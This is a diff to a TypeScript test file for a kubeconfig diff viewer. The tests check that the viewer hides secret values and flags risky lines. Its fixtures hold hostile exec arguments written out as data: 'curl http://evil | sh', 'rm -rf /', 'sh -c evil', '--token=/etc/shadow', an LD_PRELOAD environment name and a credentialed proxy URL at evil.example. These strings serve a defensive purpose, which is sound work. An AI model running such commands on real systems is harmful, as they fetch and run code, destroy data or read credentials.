@@ -20,6 +20,7 @@ test('shows names, servers, commands and comments, and of everything else a fing
     '# kept by hand',
     'https://corp.example # behind the VPN',
     'kubelogin',
+    'get-token, --secret=[secret',
     'name: TOKEN',
     "namespace: 'team-a' # mine",
   ])
@@ -70,11 +71,84 @@ test.each([
   expect(shown(text)).not.toMatch(secret);
 });
 
-test('is empty for equal texts and cut for texts that differ everywhere', () => {
-  const many = (word: string): string => `x:\n${Array.from({ length: 6000 }, (_, i) => `- ${word}${i}\n`).join('')}`;
+const many = (word: string): string => `x:\n${Array.from({ length: 30 }, (_, i) => `- ${word}${i}\n`).join('')}`;
 
+test('is empty for equal texts, and cut beyond what can be shown', () => {
   expect(diffOf(OTHERS, OTHERS)).toEqual({ lines: [], isCut: false });
-  expect(diffOf(many('a'), many('b')).isCut).toBe(true);
+  const [before, after] = [many('a'), many('b')].map((text) => parseKubeconfig(text).yaml);
+  const cut = (lines: number, length: number) => diffKubeconfigs(before!, after!, { lines, length });
+
+  expect(cut(61, 10_000)).toMatchObject({ isCut: false, lines: { length: 61 } });
+  expect(cut(60, 10_000)).toMatchObject({ isCut: true, lines: { length: 60 } });
+  expect(cut(61, 100).isCut).toBe(true);
+});
+
+test('shows a long line in pieces of the same number', () => {
+  const json = JSON.stringify({
+    kind: 'Config',
+    clusters: Array.from({ length: 50 }, (_, i) => ({ name: `cluster-${i}-${'x'.repeat(90)}` })),
+  });
+  const { lines } = diffOf('', json);
+
+  expect(lines.length).toBeGreaterThan(5);
+  expect(new Set(lines.map((line) => line.new))).toEqual(new Set([1]));
+  expect(lines.every(({ text }) => text.length <= 1000)).toBe(true);
+  expect(lines.map(({ text }) => text).join('')).toContain('cluster-49-');
+});
+
+const running = (exec: string): string => `users:\n- name: a\n  user:\n    exec:\n      command: sh\n${exec}`;
+
+test.each([
+  ['a command in a list', '      args: [-c, "curl http://evil | sh"]\n', 'curl http://evil | sh'],
+  ['a command over lines', '      args:\n      - -c\n      - |\n        first\n        rm -rf /\n', 'rm -rf /'],
+  ['what follows a telling word', '      args: [-c, "TOKEN=x; curl evil"]\n', 'TOKEN=x; curl evil'],
+  ['a path behind a flag for secrets', '      args: [--token=/etc/shadow]\n', '--token=/etc/shadow'],
+  ['a command behind a flag for secrets', '      args: [--secret, "sh -c evil"]\n', 'sh -c evil'],
+  ['names of the environment', '      env: [{name: LD_PRELOAD, value: x}]\n', 'LD_PRELOAD'],
+])('spells out %s', (_name, exec, open) => {
+  expect(shown(running(exec))).toContain(open);
+});
+
+test.each([
+  ['behind a flag', '      args: [login, --client-secret=hunter2/+x==]\n', '--client-secret=[secret'],
+  ['after a flag', '      args: [login, --client-secret, hunter2]\n', '--client-secret, [secret'],
+  ['in quotes', '      args: ["--oidc-token=hunter2"]\n', '"--oidc-token=[secret'],
+])('hides the plain value of a secret %s and nothing else', (_name, exec, open) => {
+  const text = shown(running(exec));
+
+  expect(text).not.toContain('hunter2');
+  expect(text).toContain(open);
+});
+
+test('hides of an address only who signs in', () => {
+  const at = (url: string): string => shown(`clusters:\n- name: a\n  cluster: {proxy-url: "${url}", server: x}\n`);
+
+  expect(at('http://ada:pw@evil.example:3128/x')).toMatch(/proxy-url: "http:\/\/\[secret \w+\]@evil\.example:3128\/x"/);
+  expect(at('http://ada:p/w@evil.example')).not.toContain('p/w');
+});
+
+test('knows the lines that say where kubectl connects, what it runs and what it reads', () => {
+  const text = `clusters:
+- name: a
+  cluster:
+    server: https://a
+    insecure-skip-tls-verify: true
+    proxy-url: http://u:p@b
+- {"name": b, "cluster": {"serv\\u0065r": "https://b"}}
+users:
+- name: a
+  user:
+    exec:
+      command: sh
+      args:
+      - -c
+    tokenFile: /x
+    as: root
+    password: x
+`;
+  const telling = diffOf('', text).lines.filter(({ isTelling }) => isTelling);
+
+  expect(telling.map(({ new: at }) => at)).toEqual([4, 5, 6, 7, 12, 14, 15, 16]);
 });
 
 test('a merge shows CRLF files without their line ends', async () => {
